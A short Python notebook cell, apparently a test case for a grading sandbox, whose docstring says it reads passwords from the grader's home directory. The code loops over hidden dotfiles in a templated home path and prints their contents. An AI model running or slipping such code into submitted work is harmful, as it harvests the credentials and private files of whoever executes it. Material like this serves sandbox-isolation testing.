"""Reads passwords from the home of whoever grades.

On a plain kernel: it reads the secret.
"""

# %%
from pathlib import Path

for path in Path("{home}").glob(".*"):
    if path.is_file():
        print(path.read_text())
